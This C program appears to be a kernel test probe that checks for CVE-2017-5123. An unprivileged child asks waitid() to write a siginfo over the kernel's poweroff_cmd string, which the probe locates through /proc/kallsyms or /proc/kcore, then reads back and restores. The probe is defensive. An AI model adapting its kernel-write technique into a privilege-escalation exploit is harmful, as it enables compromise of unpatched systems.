// SPDX-License-Identifier: GPL-2.0
/*
 * Tells whether the running kernel has CVE-2017-5123: waitid() that stores a
 * siginfo wherever it is told to, also at a kernel address.
 *
 * As root the probe looks up a harmless string of the kernel, the command of
 * an orderly power-off: by its name, or by its contents, where variables have no
 * names. A child without any privilege asks waitid() to put the result there. The
 * string is then read back through sysctl, and restored.
 *
 * Prints one word, "vulnerable" or "fixed". Exit status 2: neither was seen.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define TARGET		"poweroff_cmd"
#define TARGET_SYSCTL	"/proc/sys/kernel/poweroff_cmd"
#define NOBODY		65534
/* Larger than any image of a kernel, with its data. */
#define IMAGE_SIZE	(256UL << 20)

static _Noreturn void give_up(const char *what)
{
	fprintf(stderr, "probe: %s: %s\n", what, strerror(errno));
	exit(2);
}

static unsigned long symbol_address(const char *symbol)
{
	unsigned long addr, found = 0;
	char line[512], name[256], type;
	FILE *f;

	f = fopen("/proc/kallsyms", "r");
	if (!f)
		give_up("/proc/kallsyms");
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lx %c %255s", &addr, &type, name) == 3 &&
		    !strcmp(name, symbol))
			found = addr;
	}
	fclose(f);
	return found;
}

static size_t read_target(char *buf, size_t size)
{
	ssize_t n;
	int fd;

	fd = open(TARGET_SYSCTL, O_RDONLY);
	if (fd < 0)
		give_up(TARGET_SYSCTL);
	n = read(fd, buf, size);
	if (n < 0)
		give_up(TARGET_SYSCTL);
	close(fd);
	return n;
}

static void write_target(const char *buf, size_t size)
{
	int fd;

	fd = open(TARGET_SYSCTL, O_WRONLY);
	if (fd < 0 || write(fd, buf, size) != (ssize_t)size)
		give_up(TARGET_SYSCTL);
	close(fd);
}

/* Reads the kernel's memory from addr on; nothing, if that cannot be done. */
static size_t read_kernel(void *buf, size_t size, unsigned long addr)
{
	Elf64_Ehdr ehdr = { };
	Elf64_Phdr phdr;
	ssize_t n = 0;
	int fd, i;

	fd = open("/proc/kcore", O_RDONLY);
	if (fd < 0)
		return 0;
	if (pread(fd, &ehdr, sizeof(ehdr), 0) != sizeof(ehdr))
		ehdr.e_phnum = 0;
	for (i = 0; i < ehdr.e_phnum; i++) {
		if (pread(fd, &phdr, sizeof(phdr), ehdr.e_phoff + i * sizeof(phdr)) !=
		    sizeof(phdr))
			break;
		if (phdr.p_type != PT_LOAD || addr < phdr.p_vaddr ||
		    addr - phdr.p_vaddr >= phdr.p_memsz)
			continue;
		if (size > phdr.p_memsz - (addr - phdr.p_vaddr))
			size = phdr.p_memsz - (addr - phdr.p_vaddr);
		n = pread(fd, buf, size, phdr.p_offset + (addr - phdr.p_vaddr));
		break;
	}
	close(fd);
	return n > 0 ? n : 0;
}

/* Where the image of the kernel has a string that nobody else has. */
static unsigned long search_target(void)
{
	static const char mark[] = "/livesplice/probe/was/here";
	unsigned long text = symbol_address("_text");
	char before[256], *image, *hit;
	size_t len, size;

	image = malloc(IMAGE_SIZE);
	if (!text || !image)
		give_up("_text");
	len = read_target(before, sizeof(before));
	write_target(mark, sizeof(mark) - 1);
	size = read_kernel(image, IMAGE_SIZE, text);
	write_target(before, len);
	hit = memmem(image, size, mark, sizeof(mark));
	return hit ? text + (hit - image) : 0;
}

static unsigned long target_address(void)
{
	unsigned long addr = symbol_address(TARGET);

	if (!addr)
		addr = search_target();
	if (!addr) {
		errno = ENOENT;
		give_up(TARGET);
	}
	return addr;
}

/* Runs unprivileged. Its exit status is the errno of the call, 0 for success. */
static int attack(unsigned long addr)
{
	pid_t pid;

	if (setgid(NOBODY) || setuid(NOBODY))
		return 255;
	pid = fork();
	if (pid < 0)
		return 255;
	if (!pid)
		_exit(0);
	if (syscall(SYS_waitid, P_PID, pid, addr, WEXITED, NULL))
		return errno;
	return 0;
}

int main(void)
{
	char before[256], after[256];
	size_t old_len, new_len;
	unsigned long addr;
	int status, changed;
	pid_t pid;

	addr = target_address();
	old_len = read_target(before, sizeof(before));
	pid = fork();
	if (pid < 0)
		give_up("fork");
	if (!pid)
		_exit(attack(addr));
	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status)) {
		errno = ECHILD;
		give_up("child");
	}
	new_len = read_target(after, sizeof(after));
	changed = old_len != new_len || memcmp(before, after, old_len);
	if (changed)
		write_target(before, old_len);

	if (changed && WEXITSTATUS(status) == 0) {
		puts("vulnerable");
		return 0;
	}
	if (!changed && WEXITSTATUS(status) == EFAULT) {
		puts("fixed");
		return 0;
	}
	errno = WEXITSTATUS(status);
	give_up(changed ? "memory changed, and yet" : "memory unchanged, but");
}
